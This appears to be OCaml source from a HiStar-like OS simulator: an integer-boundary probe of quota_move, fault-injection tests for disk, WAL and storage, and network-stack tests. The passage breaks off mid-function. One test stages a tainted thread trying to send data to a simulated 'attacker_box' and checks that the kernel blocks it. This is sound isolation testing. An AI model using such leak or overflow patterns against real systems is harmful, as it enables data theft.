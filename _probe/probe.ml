module Kernel = Histar_core.Kernel
module Sys = Histar_core.Sys
module Label = Histar_label.Label
module Level = Histar_label.Level

let () =
  let k = Kernel.create () in
  let root = Kernel.root k in
  let seg = ref 0L in
  let _t = Kernel.spawn k ~name:"d" (fun () ->
    seg := Sys.segment_create ~container:root ~label:(Label.make Level.L1)
             ~quota:1024L ~len:8 "s";
    (try Sys.quota_move ~container:root ~target:!seg ~nbytes:Int64.min_int
     with e -> Printf.printf "quota_move raised: %s\n" (Printexc.to_string e));
    let q, u = Sys.obj_quota (Histar_core.Types.centry root !seg) in
    Printf.printf "seg quota=%Ld usage=%Ld\n" q u)
  in
  Kernel.run k;
  (match Kernel.obj_quota k root with
   | Some (q, u) -> Printf.printf "root quota=%Ld usage=%Ld\n" q u
   | None -> print_endline "root gone")
