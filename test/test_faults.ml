(* The unified fault-injection framework: schedule round-trips, disk
   fault semantics (latent/transient/corrupt), WAL graceful
   degradation, store scrub/quarantine/fsck, and the end-to-end
   fault-matrix acceptance cell (webserver workload under combined
   disk + network faults, byte-for-byte reproducible). *)

module Faults = Histar_faults.Faults
module Schedule = Faults.Schedule
module Clock = Histar_util.Sim_clock
module Rng = Histar_util.Rng
module Disk = Histar_disk.Disk
module Wal = Histar_wal.Wal
module Store = Histar_store.Store
module Metrics = Histar_metrics.Metrics
module Fault_sweep = Histar_check.Fault_sweep

(* ---------- schedules ---------- *)

let test_schedule_roundtrip () =
  let rng = Rng.create 0xFA017L in
  let rate () = float_of_int (Rng.int rng 1001) /. 1000.0 in
  for _ = 1 to 200 do
    let seed = Rng.next64 rng in
    let disk =
      if Rng.bool rng then
        Some
          {
            Schedule.latent_rate = rate ();
            transient_rate = rate ();
            corrupt_rate = rate ();
          }
      else None
    in
    let net =
      if Rng.bool rng then
        Some
          {
            Schedule.loss_rate = rate ();
            corrupt_rate = rate ();
            duplicate_rate = rate ();
            reorder_rate = rate ();
            reorder_depth = 1 + Rng.int rng 8;
            jitter_us = Rng.int rng 1000;
            flap_period_ms = Rng.int rng 2000;
            flap_down_ms = Rng.int rng 100;
          }
      else None
    in
    let crashes =
      List.init (Rng.int rng 3) (fun _ ->
          {
            Schedule.crash_node = Rng.int rng 16;
            at_ms = Rng.int rng 10_000;
            restart_after_ms =
              (if Rng.bool rng then Some (Rng.int rng 5_000) else None);
          })
    in
    let s = Schedule.mk ~seed ?disk ?net ~crashes () in
    match Schedule.of_string (Schedule.to_string s) with
    | Ok s' ->
        Alcotest.(check string)
          "schedule round-trips" (Schedule.to_string s) (Schedule.to_string s')
    | Error e ->
        Alcotest.fail
          (Printf.sprintf "of_string (to_string %s): %s" (Schedule.to_string s)
             e)
  done

(* The documented crash grammar parses field-for-field, multiple
   sections accumulate in order, and a plan built from the schedule
   fires Kill strictly before the paired Restart. *)
let test_schedule_crash_sections () =
  (match Schedule.of_string "crash:node=2,at=500,restart=300" with
  | Ok s -> (
      match s.Schedule.crashes with
      | [ c ] ->
          Alcotest.(check int) "node" 2 c.Schedule.crash_node;
          Alcotest.(check int) "at" 500 c.Schedule.at_ms;
          Alcotest.(check (option int)) "restart" (Some 300) c.restart_after_ms
      | cs -> Alcotest.fail (Printf.sprintf "%d crash entries" (List.length cs)))
  | Error e -> Alcotest.fail e);
  let s =
    Schedule.mk
      ~crashes:
        [
          { Schedule.crash_node = 3; at_ms = 60; restart_after_ms = Some 40 };
          { Schedule.crash_node = 5; at_ms = 80; restart_after_ms = None };
        ]
      ()
  in
  (match Schedule.of_string (Schedule.to_string s) with
  | Ok s' ->
      Alcotest.(check string)
        "crash sections survive the round-trip in order" (Schedule.to_string s)
        (Schedule.to_string s')
  | Error e -> Alcotest.fail e);
  let plan = Option.get (Faults.Node_faults.create s) in
  Alcotest.(check int) "three events armed" 3 (Faults.Node_faults.remaining plan);
  Alcotest.(check bool)
    "nothing due before the first kill" true
    (Faults.Node_faults.due plan ~now_ns:59_000_000L = []);
  Alcotest.(check bool)
    "kill of node 3 due at 60ms" true
    (Faults.Node_faults.due plan ~now_ns:60_000_000L
    = [ Faults.Node_faults.Kill 3 ]);
  Alcotest.(check bool)
    "kill of 5 then restart of 3, in time order" true
    (Faults.Node_faults.due plan ~now_ns:200_000_000L
    = [ Faults.Node_faults.Kill 5; Faults.Node_faults.Restart 3 ]);
  Alcotest.(check int) "each event fires exactly once" 0
    (Faults.Node_faults.remaining plan)

let test_schedule_errors () =
  let bad = [ "seed=xyzzy"; "disk:latent=banana"; "net:loss"; "bogus:1" ] in
  List.iter
    (fun s ->
      match Schedule.of_string s with
      | Ok _ -> Alcotest.fail (Printf.sprintf "accepted malformed %S" s)
      | Error _ -> ())
    bad

(* ---------- disk fault semantics ---------- *)

let disk_with ~seed disk_faults =
  let clock = Clock.create () in
  let sched = Schedule.mk ~seed ~disk:disk_faults () in
  Disk.create ?faults:(Faults.Disk_faults.create sched) ~clock ()

let sector_of c = String.make 512 c

(* Latent marks appear on write, make reads fail persistently, and are
   re-rolled (possibly cleared) by every rewrite. *)
let test_latent_mark_and_heal () =
  let disk =
    disk_with ~seed:11L
      { Schedule.latent_rate = 0.5; transient_rate = 0.0; corrupt_rate = 0.0 }
  in
  let plan = Option.get (Disk.faults disk) in
  let saw_bad = ref false and saw_good = ref false in
  for _ = 1 to 20 do
    Disk.write disk ~sector:10 (sector_of 'a');
    Disk.flush disk;
    if Faults.Disk_faults.is_latent plan ~sector:10 then begin
      saw_bad := true;
      (match Disk.read disk ~sector:10 ~count:1 with
      | _ -> Alcotest.fail "read of latent sector succeeded"
      | exception Disk.Read_error { transient = false; _ } -> ());
      (* latent errors are not retryable *)
      match Disk.read_retrying disk ~sector:10 ~count:1 with
      | _ -> Alcotest.fail "read_retrying of latent sector succeeded"
      | exception Disk.Read_error { transient = false; _ } -> ()
    end
    else begin
      saw_good := true;
      Alcotest.(check string)
        "readable when not latent" (sector_of 'a')
        (Disk.read disk ~sector:10 ~count:1)
    end
  done;
  Alcotest.(check bool) "both states observed" true (!saw_bad && !saw_good)

let test_transient_retry () =
  Metrics.set_enabled true;
  let before = Metrics.counter_value "disk.read_retries" in
  let disk =
    disk_with ~seed:3L
      { Schedule.latent_rate = 0.0; transient_rate = 0.3; corrupt_rate = 0.0 }
  in
  Disk.write disk ~sector:5 (sector_of 'b');
  Disk.flush disk;
  for _ = 1 to 50 do
    Alcotest.(check string)
      "read_retrying survives transients" (sector_of 'b')
      (Disk.read_retrying disk ~sector:5 ~count:1)
  done;
  Alcotest.(check bool) "retries were charged" true
    (Metrics.counter_value "disk.read_retries" > before)

let test_silent_corruption () =
  let disk =
    disk_with ~seed:1L
      { Schedule.latent_rate = 0.0; transient_rate = 0.0; corrupt_rate = 1.0 }
  in
  Disk.write disk ~sector:9 (sector_of 'c');
  Disk.flush disk;
  let got = Disk.read disk ~sector:9 ~count:1 in
  let diffs = ref 0 in
  String.iteri (fun i ch -> if ch <> (sector_of 'c').[i] then incr diffs) got;
  Alcotest.(check int) "exactly one byte flipped" 1 !diffs

(* ---------- WAL graceful degradation ---------- *)

(* A latent sector in the middle of the log ends replay at that point:
   the prefix before it survives, nothing after it is invented. *)
let test_wal_prefix_on_latent_sector () =
  Metrics.set_enabled true;
  let stops_before = Metrics.counter_value "wal.media_read_stops" in
  let clock = Clock.create () in
  let disk = Disk.create ~clock () in
  let wal = Wal.format ~disk ~start:1 ~sectors:64 in
  let payloads = List.init 10 (Printf.sprintf "record-%02d") in
  List.iter
    (fun p ->
      Wal.append wal p;
      Wal.commit wal)
    payloads;
  (* Shoot absolute sector 7 — the region starts at sector 1 with its
     superblock, so this is the 6th one-sector record — by attaching a
     plan that marks every written sector latent and overwriting it. *)
  let sched =
    Schedule.mk ~seed:2L
      ~disk:
        { Schedule.latent_rate = 1.0; transient_rate = 0.0; corrupt_rate = 0.0 }
      ()
  in
  Disk.set_faults disk (Faults.Disk_faults.create sched);
  Disk.write disk ~sector:7 (sector_of 'X');
  Disk.flush disk;
  let recovered_wal, recovered = Wal.recover ~disk ~start:1 ~sectors:64 in
  Alcotest.(check (list string))
    "prefix before the bad sector survives"
    [ "record-00"; "record-01"; "record-02"; "record-03"; "record-04" ]
    recovered;
  Alcotest.(check bool) "media stop was counted" true
    (Metrics.counter_value "wal.media_read_stops" > stops_before);
  ignore recovered_wal

(* ---------- store scrub / quarantine / fsck ---------- *)

let test_store_scrub_repairs () =
  Metrics.set_enabled true;
  let clock = Clock.create () in
  let sched =
    Schedule.mk ~seed:5L
      ~disk:
        {
          Schedule.latent_rate = 0.08;
          transient_rate = 0.05;
          corrupt_rate = 0.02;
        }
      ()
  in
  let disk =
    Disk.create ?faults:(Faults.Disk_faults.create sched) ~clock ()
  in
  let store = Store.format ~disk ~wal_sectors:1024 () in
  let model = Hashtbl.create 64 in
  let rng = Rng.create 0xBEEFL in
  for oid = 1 to 50 do
    let payload = Rng.bytes rng (64 + Rng.int rng 2048) in
    Hashtbl.replace model (Int64.of_int oid) payload;
    Store.put store ~oid:(Int64.of_int oid) payload
  done;
  Store.checkpoint store;
  (* The checkpoint writes landed through the fault plan, so some home
     images are now latent or corrupt. Scrub must converge and repair
     them all from the clean cache. *)
  let report = Store.scrub store in
  Alcotest.(check bool) "scrub converged" true report.Store.clean;
  Alcotest.(check (list int64)) "no objects lost" [] report.Store.lost;
  Alcotest.(check bool) "faults were actually injected and repaired" true
    (report.Store.repaired > 0);
  Alcotest.(check bool) "bad extents were quarantined" true
    (report.Store.quarantined_sectors > 0);
  Store.fsck store;
  (* Every object must read back from the media byte-exact. *)
  Store.drop_clean_cache store;
  Hashtbl.iter
    (fun oid expected ->
      match Store.get store ~oid with
      | Some got ->
          if not (String.equal got expected) then
            Alcotest.fail (Printf.sprintf "object %Ld corrupt after scrub" oid)
      | None -> Alcotest.fail (Printf.sprintf "object %Ld missing" oid))
    model;
  (* Quarantine survives recovery: the list is persisted in checkpoint
     metadata and still counted by fsck's tiling proof. *)
  let store2 = Store.recover ~disk in
  Alcotest.(check (list (pair int int)))
    "quarantined extents persisted"
    (Store.quarantined_extents store)
    (Store.quarantined_extents store2);
  Store.fsck store2;
  Hashtbl.iter
    (fun oid expected ->
      match Store.get store2 ~oid with
      | Some got ->
          Alcotest.(check bool)
            (Printf.sprintf "object %Ld intact after recover" oid)
            true (String.equal got expected)
      | None -> Alcotest.fail (Printf.sprintf "object %Ld lost by recover" oid))
    model

let test_scrub_noop_when_healthy () =
  let clock = Clock.create () in
  let disk = Disk.create ~clock () in
  let store = Store.format ~disk ~wal_sectors:1024 () in
  for oid = 1 to 10 do
    Store.put store ~oid:(Int64.of_int oid) (String.make 100 'h')
  done;
  Store.checkpoint store;
  let report = Store.scrub store in
  Alcotest.(check bool) "clean" true report.Store.clean;
  Alcotest.(check int) "one pass" 1 report.Store.passes;
  Alcotest.(check int) "nothing repaired" 0 report.Store.repaired;
  Alcotest.(check int) "nothing quarantined" 0 report.Store.quarantined_sectors;
  Store.fsck store

(* ---------- end-to-end acceptance ---------- *)

(* The ISSUE's acceptance schedule: 5% loss + reorder + dup on the
   wire, 1% latent sector errors (plus transients and silent write
   corruption) on the disk. The webserver workload must complete every
   request byte-exact, scrub must leave fsck clean, and the whole run
   must be byte-for-byte reproducible from the seed. *)
let acceptance_schedule =
  Schedule.mk ~seed:0xACCE97L
    ~disk:
      { Schedule.latent_rate = 0.01; transient_rate = 0.02; corrupt_rate = 0.002 }
    ~net:Schedule.default_net ()

let test_acceptance_cell () =
  let cell = Fault_sweep.run_cell acceptance_schedule in
  Alcotest.(check int) "all requests completed" cell.Fault_sweep.requests
    cell.Fault_sweep.completed;
  Alcotest.(check int) "zero corrupt payloads" 0
    cell.Fault_sweep.corrupt_payloads;
  Alcotest.(check bool) "scrub clean" true cell.Fault_sweep.scrub.Store.clean

let test_acceptance_reproducible () =
  let a = Fault_sweep.run_cell acceptance_schedule in
  let b = Fault_sweep.run_cell acceptance_schedule in
  Alcotest.(check string) "metrics dumps byte-identical"
    a.Fault_sweep.metrics_dump b.Fault_sweep.metrics_dump

(* The full matrix sweep (each cell run twice for reproducibility) is
   CI's faults-smoke job; gate it behind an env knob so tier-1 stays
   fast. *)
let test_matrix_sweep () =
  if Sys.getenv_opt "HISTAR_FAULTS_SWEEP" = None then ()
  else begin
    let cells = Fault_sweep.sweep () in
    Alcotest.(check bool) "swept at least one cell" true (List.length cells > 0);
    List.iter
      (fun c ->
        Format.printf "%a@." Fault_sweep.pp_cell c;
        Alcotest.(check int) "no corruption" 0 c.Fault_sweep.corrupt_payloads)
      cells
  end

let () =
  Alcotest.run "faults"
    [
      ( "schedule",
        [
          Alcotest.test_case "roundtrip" `Quick test_schedule_roundtrip;
          Alcotest.test_case "crash sections" `Quick
            test_schedule_crash_sections;
          Alcotest.test_case "errors" `Quick test_schedule_errors;
        ] );
      ( "disk",
        [
          Alcotest.test_case "latent mark and heal" `Quick
            test_latent_mark_and_heal;
          Alcotest.test_case "transient retry" `Quick test_transient_retry;
          Alcotest.test_case "silent corruption" `Quick test_silent_corruption;
        ] );
      ( "wal",
        [
          Alcotest.test_case "prefix on latent sector" `Quick
            test_wal_prefix_on_latent_sector;
        ] );
      ( "store",
        [
          Alcotest.test_case "scrub repairs" `Quick test_store_scrub_repairs;
          Alcotest.test_case "scrub no-op when healthy" `Quick
            test_scrub_noop_when_healthy;
        ] );
      ( "acceptance",
        [
          Alcotest.test_case "combined-fault webserver cell" `Quick
            test_acceptance_cell;
          Alcotest.test_case "byte-for-byte reproducible" `Quick
            test_acceptance_reproducible;
          Alcotest.test_case "matrix sweep (HISTAR_FAULTS_SWEEP=1)" `Quick
            test_matrix_sweep;
        ] );
    ]
