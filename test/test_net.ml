module Clock = Histar_util.Sim_clock
module Kernel = Histar_core.Kernel
module Sys = Histar_core.Sys
open Histar_net
open Histar_label
open Histar_core.Types

let l entries d = Label.of_list entries d

(* ---------- addr / packet ---------- *)

let test_addr_roundtrip () =
  let ip = Addr.ip_of_string "192.168.1.42" in
  Alcotest.(check string) "dotted quad" "192.168.1.42" (Addr.ip_to_string ip);
  Alcotest.(check bool) "equal" true
    (Addr.equal (Addr.v "10.0.0.1" 80) (Addr.v "10.0.0.1" 80));
  (try
     ignore (Addr.ip_of_string "300.1.1.1");
     Alcotest.fail "expected failure"
   with Invalid_argument _ -> ())

let test_packet_roundtrip () =
  let f =
    {
      Packet.src_mac = "m1";
      dst_mac = "m2";
      ip =
        {
          Packet.src_ip = 1;
          dst_ip = 2;
          proto =
            Packet.Tcp
              {
                Packet.src_port = 1000;
                dst_port = 80;
                seq = 7;
                ack_no = 9;
                flags = { Packet.no_flags with syn = true };
                window = 65535;
                payload = "payload";
              };
        };
    }
  in
  match Packet.frame_of_bytes (Packet.frame_to_bytes f) with
  | Some f' -> Alcotest.(check string) "same" (Packet.frame_to_bytes f) (Packet.frame_to_bytes f')
  | None -> Alcotest.fail "decode failed"

let test_packet_garbage () =
  Alcotest.(check bool) "garbage rejected" true
    (Packet.frame_of_bytes "not a frame" = None)

let prop_frame_roundtrip =
  let open QCheck2.Gen in
  let gen_frame =
    let* src_mac = string_size (int_bound 8) in
    let* dst_mac = string_size (int_bound 8) in
    let* src_ip = int_bound 0xFFFF in
    let* dst_ip = int_bound 0xFFFF in
    let* tcp = bool in
    if tcp then
      let* seq = int_bound 1_000_000 in
      let* ack_no = int_bound 1_000_000 in
      let* payload = string_size (int_bound 200) in
      let* bits = int_bound 15 in
      return
        {
          Packet.src_mac;
          dst_mac;
          ip =
            {
              Packet.src_ip;
              dst_ip;
              proto =
                Packet.Tcp
                  {
                    Packet.src_port = 1;
                    dst_port = 2;
                    seq;
                    ack_no;
                    flags =
                      {
                        Packet.syn = bits land 1 <> 0;
                        ack = bits land 2 <> 0;
                        fin = bits land 4 <> 0;
                        rst = bits land 8 <> 0;
                      };
                    window = 65535;
                    payload;
                  };
            };
        }
    else
      let* upayload = string_size (int_bound 200) in
      return
        {
          Packet.src_mac;
          dst_mac;
          ip =
            {
              Packet.src_ip;
              dst_ip;
              proto = Packet.Udp { Packet.usrc_port = 3; udst_port = 4; upayload };
            };
        }
  in
  QCheck2.Test.make ~name:"frame codec round-trip" ~count:300 gen_frame
    (fun f ->
      match Packet.frame_of_bytes (Packet.frame_to_bytes f) with
      | Some f' -> Packet.frame_to_bytes f = Packet.frame_to_bytes f'
      | None -> false)

let prop_garbage_never_crashes =
  QCheck2.Test.make ~name:"arbitrary bytes never crash the decoder" ~count:300
    QCheck2.Gen.(string_size (int_bound 300))
    (fun s ->
      match Packet.frame_of_bytes s with Some _ | None -> true)

(* ---------- two standalone stacks over a hub ---------- *)

let mk_pair () =
  let clock = Clock.create () in
  let hub = Hub.create ~clock () in
  let a = Sim_host.create ~hub ~clock ~ip:"10.0.0.1" ~mac:"aa" () in
  let b = Sim_host.create ~hub ~clock ~ip:"10.0.0.2" ~mac:"bb" () in
  (clock, hub, a, b)

let drain conn =
  let buf = Buffer.create 64 in
  let rec go () =
    let d = Stack.recv conn in
    if String.length d > 0 then begin
      Buffer.add_string buf d;
      go ()
    end
  in
  go ();
  Buffer.contents buf

let test_tcp_connect_and_echo () =
  let _clock, _hub, a, b = mk_pair () in
  Sim_host.echo b ~port:7;
  let c = Stack.connect (Sim_host.stack a) ~dst:(Addr.v "10.0.0.2" 7) in
  (* handshake completes inline through the hub *)
  Alcotest.(check bool) "established" true (Stack.state c = Stack.Established);
  Stack.send c "hello over tcp";
  Alcotest.(check string) "echoed" "hello over tcp" (drain c);
  Stack.close c

let test_tcp_large_transfer () =
  let _clock, _hub, a, b = mk_pair () in
  let content = String.init 300_000 (fun i -> Char.chr (i land 0xff)) in
  Sim_host.serve_file b ~port:80 ~content;
  let c = Stack.connect (Sim_host.stack a) ~dst:(Addr.v "10.0.0.2" 80) in
  Stack.send c "GET /file";
  let buf = Buffer.create 1024 in
  let guard = ref 0 in
  while (not (Stack.recv_eof c)) && !guard < 1_000_000 do
    incr guard;
    Buffer.add_string buf (Stack.recv c)
  done;
  Alcotest.(check int) "full content" (String.length content)
    (Buffer.length buf);
  Alcotest.(check bool) "bytes identical" true
    (String.equal content (Buffer.contents buf))

let test_tcp_rst_on_closed_port () =
  let _clock, _hub, a, _b = mk_pair () in
  let c = Stack.connect (Sim_host.stack a) ~dst:(Addr.v "10.0.0.2" 9999) in
  Alcotest.(check bool) "reset" true (Stack.state c = Stack.Closed)

let test_tcp_loss_recovery () =
  let clock = Clock.create () in
  let rng = Histar_util.Rng.create 42L in
  let hub = Hub.create ~clock ~loss_rate:0.05 ~rng () in
  let a = Sim_host.create ~hub ~clock ~ip:"10.0.0.1" ~mac:"aa" () in
  let b = Sim_host.create ~hub ~clock ~ip:"10.0.0.2" ~mac:"bb" () in
  let content = String.init 50_000 (fun i -> Char.chr (i * 7 land 0xff)) in
  Sim_host.serve_file b ~port:80 ~content;
  let sa = Sim_host.stack a in
  let c = Stack.connect sa ~dst:(Addr.v "10.0.0.2" 80) in
  (* the SYN itself may be lost: drive timers until established *)
  let guard = ref 0 in
  while Stack.state c <> Stack.Established && !guard < 1000 do
    incr guard;
    Clock.advance_ms clock 250.0;
    Stack.tick sa;
    Stack.tick (Sim_host.stack b)
  done;
  Alcotest.(check bool) "established despite loss" true
    (Stack.state c = Stack.Established);
  Stack.send c "GET /file";
  let buf = Buffer.create 1024 in
  let guard = ref 0 in
  while (not (Stack.recv_eof c)) && !guard < 20_000 do
    incr guard;
    Buffer.add_string buf (Stack.recv c);
    Clock.advance_ms clock 50.0;
    Stack.tick sa;
    Stack.tick (Sim_host.stack b)
  done;
  Alcotest.(check bool) "retransmissions happened" true
    (Stack.segments_retransmitted sa + Stack.segments_retransmitted (Sim_host.stack b) > 0);
  Alcotest.(check bool) "content intact despite loss" true
    (String.equal content (Buffer.contents buf))

(* Satellite property: a byte stream pushed through a hub injecting
   loss + duplication + reordering (+ corruption, caught by the frame
   FCS) arrives exact and in-order, for several seeded schedules. Each
   schedule is deterministic, so a failing seed is a one-line replay. *)
let test_tcp_stream_exact_under_faulty_hub () =
  let module Schedule = Histar_faults.Faults.Schedule in
  List.iter
    (fun seed ->
      let clock = Clock.create () in
      let schedule =
        Schedule.mk ~seed
          ~net:
            {
              Schedule.default_net with
              Schedule.duplicate_rate = 0.04;
              reorder_rate = 0.08;
            }
          ()
      in
      let faults = Histar_faults.Faults.Net_faults.create schedule in
      let hub = Hub.create ?faults ~clock () in
      let a = Sim_host.create ~hub ~clock ~ip:"10.0.0.1" ~mac:"aa" () in
      let b = Sim_host.create ~hub ~clock ~ip:"10.0.0.2" ~mac:"bb" () in
      let content =
        Histar_util.Rng.bytes (Histar_util.Rng.create seed) 40_000
      in
      Sim_host.serve_file b ~port:80 ~content;
      let sa = Sim_host.stack a in
      let c = Stack.connect sa ~dst:(Addr.v "10.0.0.2" 80) in
      let guard = ref 0 in
      while Stack.state c <> Stack.Established && !guard < 1000 do
        incr guard;
        Clock.advance_ms clock 250.0;
        Stack.tick sa;
        Stack.tick (Sim_host.stack b)
      done;
      Stack.send c "GET /file";
      let buf = Buffer.create 1024 in
      let guard = ref 0 in
      while (not (Stack.recv_eof c)) && !guard < 40_000 do
        incr guard;
        Buffer.add_string buf (Stack.recv c);
        Clock.advance_ms clock 50.0;
        Stack.tick sa;
        Stack.tick (Sim_host.stack b);
        (* a held (reordered) frame must not be mistaken for a lost
           one when the wire drains *)
        Hub.flush_held hub
      done;
      let replay = Schedule.to_string schedule in
      Alcotest.(check bool)
        (Printf.sprintf "faults were injected (%s)" replay)
        true
        (Hub.frames_lost hub > 0);
      Alcotest.(check int)
        (Printf.sprintf "dropped = lost + no_route (%s)" replay)
        (Hub.frames_lost hub + Hub.frames_no_route hub)
        (Hub.frames_dropped hub);
      Alcotest.(check bool)
        (Printf.sprintf "stream exact and in-order (%s)" replay)
        true
        (String.equal content (Buffer.contents buf)))
    [ 0x5EED1L; 0x5EED2L; 0x5EED3L ]

let test_udp () =
  let _clock, _hub, a, b = mk_pair () in
  Stack.udp_bind (Sim_host.stack b) ~port:53;
  Stack.udp_send (Sim_host.stack a) ~dst:(Addr.v "10.0.0.2" 53) "query";
  match Stack.udp_recv (Sim_host.stack b) ~port:53 with
  | Some (from, payload) ->
      Alcotest.(check string) "payload" "query" payload;
      Alcotest.(check string) "source ip" "10.0.0.1" (Addr.ip_to_string from.Addr.ip)
  | None -> Alcotest.fail "no datagram"

let test_hub_bandwidth_model () =
  let clock = Clock.create () in
  let hub = Hub.create ~bandwidth_bps:100e6 ~latency_us:100.0 ~clock () in
  let _a = Sim_host.create ~hub ~clock ~ip:"10.0.0.1" ~mac:"aa" () in
  let b = Sim_host.create ~hub ~clock ~ip:"10.0.0.2" ~mac:"bb" () in
  (* ~10 MB transfer should take at least 0.8 virtual seconds at 100 Mbps *)
  let content = String.make 10_000_000 'x' in
  Sim_host.serve_file b ~port:80 ~content;
  let a2 = Sim_host.create ~hub ~clock ~ip:"10.0.0.3" ~mac:"cc" () in
  let c = Stack.connect (Sim_host.stack a2) ~dst:(Addr.v "10.0.0.2" 80) in
  Stack.send c "GET /";
  let guard = ref 0 in
  let total = ref 0 in
  while (not (Stack.recv_eof c)) && !guard < 100_000 do
    incr guard;
    total := !total + String.length (Stack.recv c)
  done;
  Alcotest.(check int) "all bytes" 10_000_000 !total;
  let secs = Clock.to_seconds (Clock.now_ns clock) in
  Alcotest.(check bool)
    (Printf.sprintf "took %.2fs (expect ~0.8s+)" secs)
    true
    (secs > 0.7 && secs < 5.0)

(* Satellite: byte-conservation identity. Every frame copy the hub
   accepts is charged to [net.bytes_tx] (per delivered copy) and then
   accounted exactly once as received, lost, or unroutable, so after
   the wire drains:

     bytes_tx = bytes_rx + bytes_lost + bytes_no_route

   Checked on a clean hub and on a faulty one (loss + duplication +
   reordering), where the per-host [net.bytes_tx.<mac>] split must
   also sum to the global counter. Counters are registry-global, so
   the test snapshots before/after and compares deltas. *)
let test_byte_conservation () =
  let module Metrics = Histar_metrics.Metrics in
  let module Schedule = Histar_faults.Faults.Schedule in
  let was = Metrics.enabled () in
  Metrics.set_enabled true;
  Fun.protect ~finally:(fun () -> Metrics.set_enabled was) @@ fun () ->
  let cv = Metrics.counter_value in
  let run ~tag ~faults () =
    let tx0 = cv "net.bytes_tx"
    and rx0 = cv "net.bytes_rx"
    and lost0 = cv "net.bytes_lost"
    and nr0 = cv "net.bytes_no_route"
    and haa0 = cv "net.bytes_tx.aa"
    and hbb0 = cv "net.bytes_tx.bb" in
    let clock = Clock.create () in
    let hub = Hub.create ?faults ~clock () in
    let a = Sim_host.create ~hub ~clock ~ip:"10.0.0.1" ~mac:"aa" () in
    let b = Sim_host.create ~hub ~clock ~ip:"10.0.0.2" ~mac:"bb" () in
    let content = Histar_util.Rng.bytes (Histar_util.Rng.create 77L) 30_000 in
    Sim_host.serve_file b ~port:80 ~content;
    let sa = Sim_host.stack a in
    let c = Stack.connect sa ~dst:(Addr.v "10.0.0.2" 80) in
    let guard = ref 0 in
    while Stack.state c <> Stack.Established && !guard < 1000 do
      incr guard;
      Clock.advance_ms clock 250.0;
      Stack.tick sa;
      Stack.tick (Sim_host.stack b)
    done;
    Stack.send c "GET /file";
    let buf = Buffer.create 1024 in
    let guard = ref 0 in
    while (not (Stack.recv_eof c)) && !guard < 40_000 do
      incr guard;
      Buffer.add_string buf (Stack.recv c);
      Clock.advance_ms clock 50.0;
      Stack.tick sa;
      Stack.tick (Sim_host.stack b);
      Hub.flush_held hub
    done;
    (* a frame held for reordering that never drained would look like
       a conservation violation; force the wire empty first *)
    Hub.flush_held hub;
    Alcotest.(check bool)
      (tag ^ ": stream intact") true
      (String.equal content (Buffer.contents buf));
    let tx = cv "net.bytes_tx" - tx0
    and rx = cv "net.bytes_rx" - rx0
    and lost = cv "net.bytes_lost" - lost0
    and nr = cv "net.bytes_no_route" - nr0
    and haa = cv "net.bytes_tx.aa" - haa0
    and hbb = cv "net.bytes_tx.bb" - hbb0 in
    Alcotest.(check bool) (tag ^ ": traffic flowed") true (tx > 0);
    Alcotest.(check int) (tag ^ ": tx = rx + lost + no_route") tx
      (rx + lost + nr);
    Alcotest.(check int) (tag ^ ": per-host tx sums to global") tx (haa + hbb)
  in
  run ~tag:"clean" ~faults:None ();
  let schedule =
    Schedule.mk ~seed:0xC0DEL
      ~net:
        {
          Schedule.default_net with
          Schedule.duplicate_rate = 0.04;
          reorder_rate = 0.08;
        }
      ()
  in
  let faults = Histar_faults.Faults.Net_faults.create schedule in
  run ~tag:"faulty" ~faults ();
  (* the faulty run must actually have exercised the loss path, or
     the identity was only tested in its degenerate form *)
  Alcotest.(check bool) "faulty run lost bytes" true (cv "net.bytes_lost" > 0)

(* ---------- netd inside HiStar ---------- *)

let test_netd_end_to_end () =
  let k = Kernel.create () in
  let clock = Kernel.clock k in
  let hub = Hub.create ~clock () in
  let root = Kernel.root k in
  let server = Sim_host.create ~hub ~clock ~ip:"10.0.0.2" ~mac:"bb" () in
  Sim_host.serve_file server ~port:80 ~content:"the quick brown fox";
  let netd =
    Netd.start k ~hub ~container:root ~ip:(Addr.ip_of_string "10.0.0.1")
      ~mac:"aa" ()
  in
  let got = ref "" in
  let _client =
    Kernel.spawn k ~name:"wget" (fun () ->
        let sock =
          Netd.Client.connect netd ~return_container:root (Addr.v "10.0.0.2" 80)
        in
        Netd.Client.send netd ~return_container:root sock "GET /";
        let buf = Buffer.create 64 in
        let rec go () =
          match Netd.Client.recv netd ~return_container:root sock with
          | Some d ->
              Buffer.add_string buf d;
              go ()
          | None -> ()
        in
        go ();
        Netd.Client.close netd ~return_container:root sock;
        got := Buffer.contents buf)
  in
  Kernel.run k;
  Alcotest.(check string) "downloaded through netd" "the quick brown fox" !got

let test_netd_taint_blocks_vpn_data () =
  (* A thread tainted in a foreign category v must not be able to send
     through the internet netd: the kernel stops it at netd's tainted
     request segment, and netd's own check reports a label error. *)
  let k = Kernel.create () in
  let clock = Kernel.clock k in
  let hub = Hub.create ~clock () in
  let root = Kernel.root k in
  let attacker_box = Sim_host.create ~hub ~clock ~ip:"10.9.9.9" ~mac:"ee" () in
  Sim_host.sink attacker_box ~port:6666;
  let refused = ref false in
  let _init =
    Kernel.spawn k ~name:"init" (fun () ->
        let i = Sys.cat_create () in
        let netd =
          Netd.start k ~hub ~container:root ~ip:(Addr.ip_of_string "10.0.0.1")
            ~mac:"aa" ~taint:i ()
        in
        let v = Sys.cat_create () in
        (* scratch container writable once tainted v2+i2 *)
        let scratch =
          Sys.container_create ~container:root
            ~label:(l [ (v, Level.L2); (i, Level.L2) ] Level.L1)
            ~quota:262_144L "scratch"
        in
        let _leaker =
          Sys.thread_create ~container:root
            ~label:(l [ (v, Level.L2); (i, Level.L2) ] Level.L1)
            ~clearance:(l [ (v, Level.L2); (i, Level.L2) ] Level.L2)
            ~quota:65536L ~name:"leaker"
            (fun () ->
              match
                Netd.Client.connect netd ~return_container:scratch
                  (Addr.v "10.9.9.9" 6666)
              with
              | _ -> ()
              | exception Netd.Client.Netd_error _ -> refused := true
              | exception Kernel_error _ -> refused := true)
        in
        ())
  in
  Kernel.run k;
  Alcotest.(check bool) "vpn-tainted send refused" true !refused;
  Alcotest.(check string) "nothing reached the attacker" ""
    (Sim_host.sink_data attacker_box)

let test_netd_tainted_client_can_browse () =
  (* the legitimate pattern of Figure 11: a browser tainted {i2} *)
  let k = Kernel.create () in
  let clock = Kernel.clock k in
  let hub = Hub.create ~clock () in
  let root = Kernel.root k in
  let server = Sim_host.create ~hub ~clock ~ip:"10.0.0.2" ~mac:"bb" () in
  Sim_host.serve_file server ~port:80 ~content:"<html>hi</html>";
  let got = ref "" in
  let _init =
    Kernel.spawn k ~name:"init" (fun () ->
        let i = Sys.cat_create () in
